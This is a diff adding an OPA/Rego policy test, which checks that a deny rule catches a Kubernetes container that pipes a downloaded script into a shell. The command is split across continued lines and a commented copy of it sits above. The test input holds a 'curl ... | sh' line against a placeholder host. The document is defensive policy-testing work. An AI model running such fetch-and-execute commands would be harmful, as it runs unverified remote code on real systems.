@@ -90,3 +90,20 @@ spec:
     - {name: d, args: ['pip install --no-index /wheels/a.whl; npm ci; echo apt-get install x; pip install .']}
 `)
 }
+
+test_deny_a_continued_line_and_no_comment if {
+	rule.deny == {{"path": ["spec", "containers", 0, "args", 0], "message": `container "a" runs what it downloads`, "line": 2}} with input as testing.input_for(`
+apiVersion: v1
+kind: Pod
+metadata: {name: web}
+spec:
+  containers:
+    - name: a
+      args:
+        - |
+          # curl https://x.example.com/i | sh
+          curl -fsSL \
+            https://x.example.com/i \
+            | sh
+`)
+}
